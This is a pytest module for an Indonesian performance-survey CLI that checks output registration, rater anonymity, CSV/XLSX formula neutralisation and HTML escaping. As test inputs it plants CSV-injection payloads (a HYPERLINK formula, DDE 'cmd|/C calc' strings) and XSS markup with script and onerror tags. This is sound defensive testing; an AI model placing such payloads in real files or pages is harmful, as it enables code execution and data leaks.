"""Every output a person reads is registered, and every registered output is checked (issue 22).

The output registry (``present.registry``) names every output with its kind: ``per_person``,
``per_unit`` or ``org_wide``.  This test

* discovers every command of ``kinerja-survey`` through click and fails on a command that is
  neither registered as writing an output nor listed below as writing none (:data:`NO_OUTPUT`), so
  a new export cannot skip the checks; it runs every registered example on a scenario cycle and
  fails on a written file that no registered output covers (``registry.covers``);
* builds one generated cycle twice, the answers of hidden rater groups (a peer or subordinate
  group under its threshold for a ratee, ``analysis.displayable_ratings``) all 1 in one and all 5
  in the other, and checks on every registered output:

  - **anonymity**: only ``org_wide`` outputs (and the ``org_wide_parts`` of an output: the
    reliability sheets of the analysis) may differ, compared cell by cell after times, tokens and
    the folders of the two runs are normalised;
  - **formulas**: formula payloads (OWASP "CSV Injection") in roster names, jabatan, rater
    comments, dialog notes, stakeholder names and the berita acara's ``--peserta``/``--tempat``: no
    formula cell in any XLSX (a formula-like text is a text cell with Excel's quote prefix), no CSV
    field starting with = + - @ TAB CR unless it is a number or starts with an apostrophe;
  - **HTML**: markup in names and comments (``<script>``, ``<img onerror>``) is escaped in every
    HTML output;
  - **language and time**: every XLSX header is a catalog text or a column of the label map, and a
    time of day shown in a workbook carries the local zone's label.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
import sqlite3
from html.parser import HTMLParser
from pathlib import Path

import click
import numpy as np
import openpyxl
import pandas as pd
import pytest
from click.testing import CliRunner

from kinerja_survey import cycle as uc
from kinerja_survey.cli import main
from kinerja_survey.demo import build_demo
from kinerja_survey.i18n import STRINGS
from kinerja_survey.present import registry
from kinerja_survey.present.exports import is_formula_like
from kinerja_survey.present.labels import column_info, t
from kinerja_survey.store import Store

FORMULA = '=HYPERLINK("http://contoh.invalid/?x="&A1,"Klik")'
MARKUP = '<script>alert(1)</script><img src=x onerror=alert(2)>'
#: Commands that write no file and print no table of results about people (each with why).
NO_OUTPUT = {
    "siapkan": "creates the database", "impor-roster": "reads a roster", "buka": "changes a status",
    "tutup": "changes a status", "alamat-publik": "sets the public address", "jalankan": "starts the servers",
    "batas-waktu": "sets a deadline", "buka-kembali": "changes a status", "tambah-penilai": "one link on screen",
    "ganti-penilai": "one link on screen", "hapus-penilai": "removes an assignment",
    "cabut-tautan": "revokes a link", "impor-hasil-kerja": "reads hasil kerja",
    "predikat-organisasi": "sets the organisation's predikat", "umumkan": "publishes",
    "ajukan-keberatan": "records a keberatan", "tanggapi-keberatan": "records a response",
    "putuskan-keberatan": "records a decision", "impor-saran": "reads suggestions",
    "umpan-balik": "a setting", "pulihkan": "restores a backup", "koreksi-data": "corrects one field",
    "retensi": "previews and applies retention", "penolakan": "declines of raters (HR's list, no results)",
    "kotak-keluar": "the reminder outbox (HR's list, no results)",
    "daftar-keberatan": "the keberatan list (HR's list, no results)",
    "log-ekspor": "the export log (HR's list, no results)",
    "akun buat": "creates an account", "akun sandi": "sets a password", "akun peran": "sets roles",
    "akun aktifkan": "enables an account", "akun nonaktifkan": "disables an account",
    "akun daftar": "the accounts (HR's list, no results)",
}
WRITE_OPTIONS = {"--keluaran", "--tautan", "--akun"}
TIME = re.compile(r"\d{4}-\d{2}-\d{2}[ T]\d{2}:\d{2}(:\d{2}(\.\d+)?)?([+-]\d{2}:?\d{2}|Z)?|\d{2}[-/]\d{2}[-/]\d{4}"
                  r"( \d{2}:\d{2}(:\d{2})?)?|\b\d{2}:\d{2}(:\d{2})?\b")
TOKEN = re.compile(r"[A-Za-z0-9_-]{20,}")
RATE = re.compile(r"\d+(\.\d+)?[kM]?(baris|it)/s|\b\d{2}[.:]\d{2} (WIB|WITA|WIT|UTC)|\d+(\.\d+)? jam lalu")
ZONE_LABELS = ("WIB", "WITA", "WIT", "UTC")


def _commands(group: click.Group, prefix=()):
    """Every leaf command of the CLI, nested groups included: (path, command)."""
    for name, command in sorted(group.commands.items()):
        if isinstance(command, click.Group):
            yield from _commands(command, (*prefix, name))
        else:
            yield " ".join((*prefix, name)), command


# --- the scenario: one cycle, twice --------------------------------------------------------------

def _hidden_assignments(store: Store, cycle_id: int) -> list[tuple[str, str]]:
    res = uc.load_results(store, cycle_id)
    hidden = res.ratings.loc[~res.ratings.index.isin(res.shown_ratings.index)]
    pairs = sorted(set(zip(hidden["rater"].astype(str), hidden["ratee"].astype(str))))
    assert len(pairs) >= 5, "the scenario must have hidden groups, or the anonymity check could not fail"
    return pairs


def _set_hidden(db: Path, pairs, value: int) -> None:
    con = sqlite3.connect(db)
    with con:
        for rater, ratee in pairs:
            con.execute("""UPDATE answers SET value = ? WHERE value IS NOT NULL AND response_id IN (
                SELECT r.id FROM responses r JOIN assignments a ON a.id = r.assignment_id
                JOIN employees er ON er.id = a.rater_id JOIN employees ee ON ee.id = a.ratee_id
                WHERE er.nip = ? AND ee.nip = ?)""", (value, rater, ratee))
    con.close()


@pytest.fixture(scope="module")
def scenario(tmp_path_factory):
    """Two databases of the same published cycle: hidden answers all 1 (``lo``) and all 5 (``hi``).
    Formula payloads and markup are in names, jabatan, comments and dialog notes of both."""
    d = tmp_path_factory.mktemp("registry")
    base = d / "base.sqlite"
    store = Store(base)
    cid = build_demo(store, n_employees=40, seed=7).cycle_id
    emp = store.employees_frame().reset_index(drop=True)
    store.dispose()
    con = sqlite3.connect(base)
    with con:
        for i, text in enumerate((FORMULA, MARKUP, "+62 " + MARKUP, "@SUM(1+1)*cmd|' /C calc'!A0")):
            con.execute("UPDATE employees SET name = ? WHERE nip = ?", (f"{text} {i}", emp.at[i + 2, "nip"]))
        con.execute("UPDATE employees SET jabatan = ? WHERE nip = ?", ("-2+3+cmd|' /C calc'!A0", emp.at[7, "nip"]))
        con.execute("UPDATE responses SET overall_comment = ? WHERE id % 3 = 0 AND status = 'submitted'", (FORMULA,))
        con.execute("UPDATE responses SET overall_comment = ? WHERE id % 3 = 1 AND status = 'submitted'", (MARKUP,))
    con.close()
    store = Store(base)
    uc.close_cycle(store, cid, actor="uji")
    uc.set_org_predikat(store, cid, "Baik", actor="uji")
    pairs = _hidden_assignments(store, cid)
    ratee = max(sorted({r for _, r in pairs}), key=lambda n: sum(1 for _, r in pairs if r == n))
    store.dispose()
    twins = {}
    for label, value in (("lo", 1), ("hi", 5)):
        db = d / label / "kinerja.sqlite"
        db.parent.mkdir()
        shutil.copy(base, db)
        _set_hidden(db, pairs, value)
        store = Store(db)
        uc.CalibrationState(store, cid, actor="uji").change(ratee, "Butuh Perbaikan", FORMULA + " alasan rapat")
        uc.publish(store, cid, actor="uji", force=True, reason="Uji: kurva distribusi skenario belum terpenuhi")
        links = uc.issue_dialog_links(store, cid, nips=[ratee], actor="uji")
        comp = store.instrument(cid).competencies[0].code
        for tok in links["token_atasan"]:
            store.save_dialog(tok, "2027-01-15", FORMULA + " " + MARKUP,
                              [{"competency": comp, "kind": "pelatihan", "description": FORMULA, "due_on": "2027-03-01"}])
        store.dispose()
        twins[label] = db
    stakeholders = d / "pemangku.csv"
    pd.DataFrame({"nip": [ratee, ratee], "nama": [FORMULA, MARKUP], "kontak": ["warga@contoh.id", "081234567890"],
                  "instansi": ["-1+1", "Dinas"]}).to_csv(stakeholders, index=False)
    unit = emp.loc[emp["nip"] == ratee, "unit_kerja"].iloc[0]
    return {"twins": twins, "cycle": cid, "nip": ratee, "pairs": pairs, "unit": unit, "stakeholders": stakeholders, "dir": d}


def _fill(arg: str, sc: dict, out: Path) -> str:
    return arg.format(cycle=sc["cycle"], next=sc["cycle"] + 2, nip=sc["nip"], unit=sc["unit"],
                      stakeholders=sc["stakeholders"], formula=FORMULA, markup=MARKUP)


@pytest.fixture(scope="module")
def runs(scenario):
    """Every registered example run on both twins, in stage order: per twin, per output, the
    files written (relative to the twin's output folder) and what was printed."""
    outputs = sorted((o for o in registry.all_outputs() if o.example),
                     key=lambda o: (o.extra.get("stage", 0), o.name))
    got = {}
    for label, db in scenario["twins"].items():
        out = db.parent / "keluaran"
        out.mkdir()
        with pytest.MonkeyPatch.context() as mp:
            mp.chdir(out)  # the examples write in the working folder
            got[label] = _run_all(outputs, scenario, db, out)
    return got


def _run_all(outputs, scenario, db: Path, out: Path) -> dict:
    """Run the examples of ``outputs`` on ``db`` in order; per output its files (with the command
    that wrote each) and what the output's command printed."""
    seen: set[Path] = set()
    per = {}
    for o in outputs:
        printed, files = [], []
        for example in o.example:
            args = [_fill(a, scenario, out) for a in example]
            result = CliRunner().invoke(main, ["--db", str(db), "--petugas", "Uji", *args])
            assert result.exit_code == 0, (o.name, args, result.output)
            now = {p for p in out.rglob("*") if p.is_file()}
            new = sorted(now - seen)
            seen |= now
            command = example[2] if example[0] == "--db" else example[0]
            if command == o.command:
                printed.append(result.output)
            if example[0] == "--db":  # the example's own database is the store, not an output
                new = [p for p in new if not str(p).startswith(str(out / args[1]))]
            files += [(p, command) for p in new]
        per[o.name] = {"files": files, "printed": "\n".join(printed), "out": out}
    return per


# --- discovery -------------------------------------------------------------------------------------

def test_every_command_is_registered_or_listed_as_writing_nothing():
    registered = {o.command for o in registry.all_outputs() if o.command}
    found = dict(_commands(main))
    unknown = sorted(set(found) - registered - set(NO_OUTPUT))
    assert unknown == [], f"register the output of these commands in present.registry (or list them): {unknown}"
    assert sorted(set(NO_OUTPUT) - set(found)) == []  # a listed command that is gone: strike it
    # a command with an option that names a file to write cannot be listed as writing nothing
    writers = sorted(name for name, c in found.items()
                     if any(set(p.opts) & WRITE_OPTIONS for p in c.params if isinstance(p, click.Option)))
    assert sorted(set(writers) & set(NO_OUTPUT)) == []
    assert sorted(set(writers) - registered) == []
    # every registered output has an example to run or a sample to take, so the checks below see it
    # (an organisation-wide output without data about people, e.g. the suggestion library, needs none)
    assert [o.name for o in registry.all_outputs() if not (o.example or o.extra.get("sample") or o.org_wide)] == []


def test_every_file_written_is_covered_by_a_registered_output(runs):
    uncovered = []
    for per in runs.values():
        for name, run in per.items():
            for path, command in run["files"]:
                if registry.covers(path, command) is None:
                    uncovered.append(f"{command}: {path.name}")
    assert uncovered == [], "\n".join(uncovered)
    # and the examples did write: every output with files wrote at least one
    for name, run in runs["lo"].items():
        if registry.get(name).files:
            assert run["files"], name


def test_the_registry_refuses_an_unknown_output_and_a_conflicting_registration():
    with pytest.raises(registry.RegistryError, match="tidak terdaftar"):
        registry.get("unduhan-tanpa-registrasi")
    assert registry.get("data-pribadi").kind == "per_person"
    assert registry.get("data-pribadi").writer is uc.export_personal_data
    with pytest.raises(registry.RegistryError):
        registry.register("data-pribadi", "org_wide", "xlsx", command="data-pribadi")
    with pytest.raises(registry.RegistryError):
        registry.register("x-uji", "per_orang", "xlsx")
    assert registry.covers("x/data-pribadi.xlsx", "data-pribadi") == "data-pribadi"
    assert registry.covers("x/data-pribadi.xlsx", "tidak-ada") is None


@pytest.fixture(scope="module")
def samples(runs, scenario):
    """The app-only outputs (``sample``) taken on both twins after the examples (the second cycle
    open, with raters who have not finished), as the CSV text the app offers."""
    from kinerja_survey.present.exports import write_csv

    got = {}
    for label, db in scenario["twins"].items():
        store = Store(db)
        try:
            got[label] = {o.name: write_csv(o.extra["sample"](store, scenario["cycle"] + 2, scenario["nip"]), index=False)
                          for o in registry.all_outputs() if o.extra.get("sample")}
        finally:
            store.dispose()
    return got


def test_app_only_outputs_are_neutral_and_do_not_depend_on_hidden_answers(samples, scenario):
    roots = [scenario["dir"]]
    assert samples["lo"]
    for name, text in samples["lo"].items():
        rows = list(csv.reader(io.StringIO(text, newline="")))
        assert len(rows) > 1, name
        bad = [f for row in rows for f in row if re.match(r"^[=+\-@\t\r]", f) and not re.fullmatch(r"[-+]?[\d.]+", f)]
        assert bad == [], name
        if not registry.get(name).org_wide:
            assert _normal(text, roots) == _normal(samples["hi"][name], roots), name


# --- reading outputs -------------------------------------------------------------------------------

def _normal(value, roots) -> str:
    text = "" if value is None else str(value)
    for root in roots:
        text = text.replace(str(root), "<out>")
    text = "\n".join(line for line in text.split("\n") if "%|" not in line)  # progress bars: speeds
    text = RATE.sub("<laju>", TOKEN.sub("<token>", text))
    return TIME.sub("<waktu>", text)


def _cells(path: Path) -> dict[str, list[list]]:
    """The contents of an output, per part (sheet or the file itself), as rows of values."""
    suffix = path.suffix.lower()
    if suffix == ".xlsx":
        wb = openpyxl.load_workbook(path)
        parts = {ws.title: [list(r) for r in ws.iter_rows(values_only=True)] for ws in wb.worksheets}
        wb.close()
        return parts
    if suffix == ".csv":
        return {path.stem: list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))}
    if suffix == ".parquet":
        df = pd.read_parquet(path)
        return {path.stem: [list(df.columns)] + df.astype(object).to_numpy().tolist()}
    if suffix in (".html", ".json"):
        return {path.stem: [[line] for line in path.read_text(encoding="utf-8").splitlines()]}
    if suffix == ".pdf":
        from pypdf import PdfReader

        return {path.stem: [[line] for page in PdfReader(path).pages for line in page.extract_text().splitlines()]}
    return {}


def _rounded(value):
    if isinstance(value, float) and np.isfinite(value):
        return round(value, 9)
    return value


# --- anonymity -------------------------------------------------------------------------------------

def test_only_org_wide_outputs_depend_on_hidden_answers(runs, scenario):
    roots = [db.parent / "keluaran" for db in scenario["twins"].values()] + [scenario["dir"]]
    moved = []
    for name, lo in runs["lo"].items():
        output = registry.get(name)
        if output.org_wide:
            continue
        hi = runs["hi"][name]
        if _normal(lo["printed"], roots) != _normal(hi["printed"], roots):
            a, b = _normal(lo["printed"], roots).splitlines(), _normal(hi["printed"], roots).splitlines()
            diff = next((x, y) for x, y in zip(a + [""] * len(b), b + [""] * len(a)) if x != y)
            moved.append(f"{name} (printed): {diff}")
        los = {p.relative_to(lo["out"]): p for p, _ in lo["files"]}
        his = {p.relative_to(hi["out"]): p for p, _ in hi["files"]}
        assert los.keys() == his.keys(), name
        # organisation-wide parts, and the person's own answers as a rater (the twins change them)
        parts_ok = output.extra.get("org_wide_parts", ()) + output.extra.get("own_parts", ())
        for rel, path in los.items():
            if path.suffix in (".sqlite", ".bak"):
                continue
            a, b = _cells(path), _cells(his[rel])
            for part in a:
                if any(re.fullmatch(p.replace("*", ".*"), part) for p in parts_ok):
                    continue
                rows_a = [[_normal(_rounded(v), roots) for v in r] for r in a[part]]
                rows_b = [[_normal(_rounded(v), roots) for v in r] for r in b.get(part, [])]
                if rows_a != rows_b:
                    where = next(((i, j, x, y) for i, (ra, rb) in enumerate(zip(rows_a, rows_b))
                                  for j, (x, y) in enumerate(zip(ra, rb)) if x != y), len(rows_a) - len(rows_b))
                    moved.append(f"{name}: {rel}:{part} {where}")
    assert moved == [], "\n".join(moved)


# --- formulas, markup, language, time -------------------------------------------------------------

def _all_files(runs):
    for name, run in runs["lo"].items():
        for path, _ in run["files"]:
            yield name, path


def test_no_formula_in_any_workbook_or_csv(runs):
    bad, payloads_seen = [], 0
    for name, path in _all_files(runs):
        if path.suffix == ".xlsx":
            wb = openpyxl.load_workbook(path)
            for ws in wb.worksheets:
                for row in ws.iter_rows():
                    for cell in row:
                        if cell.data_type == "f":
                            bad.append(f"{name}: {path.name}:{ws.title}!{cell.coordinate} formula {cell.value!r}")
                        elif is_formula_like(cell.value):
                            payloads_seen += 1
                            if not cell.quotePrefix:
                                bad.append(f"{name}: {path.name}:{ws.title}!{cell.coordinate} {cell.value!r}")
            wb.close()
        elif path.suffix == ".csv":
            for i, row in enumerate(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline=""))):
                for field in row:
                    if field.startswith("'") and is_formula_like(field[1:]):
                        payloads_seen += 1
                    elif re.match(r"^[=+\-@\t\r]", field):
                        try:
                            float(field)
                        except ValueError:
                            bad.append(f"{name}: {path.name} row {i}: {field!r}")
    assert bad == []
    assert payloads_seen > 10  # the payloads reached the outputs: the check could fail


class _Tags(HTMLParser):
    """The tags and attributes of a page as a browser reads them."""

    def __init__(self):
        super().__init__()
        self.bad: list[str] = []
        self.script = False

    def handle_starttag(self, tag, attrs):
        self.script = tag == "script"
        self.bad += [f"<{tag} {k}>" for k, _ in attrs if k.startswith("on")]
        if tag == "img" and any(k == "src" and v == "x" for k, v in attrs):
            self.bad.append("<img src=x>")

    def handle_data(self, data):
        if self.script and "alert(" in data:
            self.bad.append(f"<script>{data}")


#: where each way in of a formula payload must arrive (and be neutral there): output -> payload start
CHANNELS = {
    "tautan-dialog": FORMULA + " 0",  # a roster name, next to the dialog links
    "tautan-penilai": FORMULA + " 0",  # a roster name, next to the raters' links
    "tren": FORMULA + " 0",  # a roster name in a workbook
    "tautan-pemangku": FORMULA,  # a stakeholder's name
    "berita-acara": FORMULA + ", " + MARKUP,  # the berita acara's --peserta
    "kebutuhan-pelatihan": FORMULA,  # a dialog's development action
    "data-pribadi": FORMULA,  # a rater's comment
}


def test_every_way_in_of_a_payload_reaches_its_output_as_text(runs):
    for name, start in CHANNELS.items():
        found = []
        for path, _ in runs["lo"][name]["files"]:
            if path.suffix == ".csv":
                rows = csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline=""))
                found += [f for row in rows for f in row if f.lstrip("'").startswith(start)]
                assert all(f.startswith("'") for f in found), (name, found)
            elif path.suffix == ".xlsx":
                wb = openpyxl.load_workbook(path)
                cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row
                         if isinstance(c.value, str) and c.value.startswith(start)]
                wb.close()
                assert all(c.data_type == "s" and c.quotePrefix for c in cells), name
                found += [c.value for c in cells]
        assert found, f"{name}: the payload {start[:20]!r} did not arrive, so the check could not fail"


def test_markup_from_data_is_escaped_in_every_html_output(runs):
    htmls = [(name, p) for name, p in _all_files(runs) if p.suffix == ".html"]
    assert htmls
    for name, path in htmls:
        text = path.read_text(encoding="utf-8")
        parser = _Tags()
        parser.feed(text)
        assert parser.bad == [], (name, path.name)
        assert "&lt;script&gt;alert(1)" in text, (name, path.name)  # the markup arrived, as text


def test_headers_come_from_the_catalog_and_times_carry_the_zone(runs):
    catalog = set(STRINGS["id"].values()) | set(STRINGS["en"].values())
    # a catalog text with a placeholder ("jumlah {x}") stands for every header it makes
    templates = [re.compile(re.sub(r"\\\{\w+\\\}", ".+", re.escape(text)) + "$")
                 for text in catalog if re.search(r"\{\w+\}", text) and len(re.sub(r"\{\w+\}", "", text).strip()) >= 4]
    unknown = t("col.unknown", "id")
    problems = []
    for name, path in _all_files(runs):
        if path.suffix != ".xlsx":
            continue
        wb = openpyxl.load_workbook(path, read_only=True)
        for ws in wb.worksheets:
            rows = list(ws.iter_rows(values_only=True))
            if not rows or ws.title == "kamus_data":  # the data dictionary: machine names beside their headers
                continue
            kamus = set()
            if "kamus_data" in wb.sheetnames:
                k = list(wb["kamus_data"].iter_rows(values_only=True))
                kamus = {r[k[0].index("kolom")] for r in k[1:]} if "kolom" in k[0] else set()
            for h in rows[0]:
                if h is None or h in catalog or h in kamus or column_info(str(h))[1] != unknown:
                    continue
                if any(p.match(str(h)) for p in templates):
                    continue
                problems.append(f"{name}: {path.name}:{ws.title} header {h!r}")
            for row in rows[1:]:
                for v in row:
                    if isinstance(v, str) and re.search(r"\b\d{2}:\d{2}\b", v) and not any(z in v for z in ZONE_LABELS):
                        problems.append(f"{name}: {path.name}:{ws.title} time without zone {v!r}")
        wb.close()
    assert problems == [], "\n".join(problems)


def test_the_personal_data_export_names_no_peer_or_subordinate_and_holds_no_hidden_answer(runs, scenario):
    """UU 27/2022 access (issue 27): the person's export names none of their peer or subordinate
    raters, and the answers received are the displayable ones only (hidden groups left out)."""
    nip = scenario["nip"]
    store = Store(scenario["twins"]["lo"])
    try:
        asg = store.assignments_frame(scenario["cycle"])
        names = store.employees_frame(active_only=False).set_index("nip")["nama"]
        shown = uc.load_results(store, scenario["cycle"]).shown_ratings
    finally:
        store.dispose()
    mine = asg[(asg["ratee"].astype(str) == nip) & asg["relationship"].isin(["peer", "subordinate"])]
    raters = set(mine["rater"].astype(str))
    assert raters and any(r == nip for _, r in scenario["pairs"])  # the person has a hidden group
    (path, _), = runs["lo"]["data-pribadi"]["files"]
    sheets = _cells(path)
    own = ("penilaian_diberikan", "komentar_diberikan")  # whom the person rated: their own answers
    text = "\n".join(str(v) for name, rows in sheets.items() if name not in own
                     for row in rows for v in row)
    assert [r for r in raters if r in text or str(names.get(r, "\0")) in text] == []
    received = sheets["penilaian_diterima"]
    n_shown = int((shown["ratee"].astype(str) == nip).sum())
    assert len(received) - 1 == n_shown  # header + the displayable answers, no hidden one

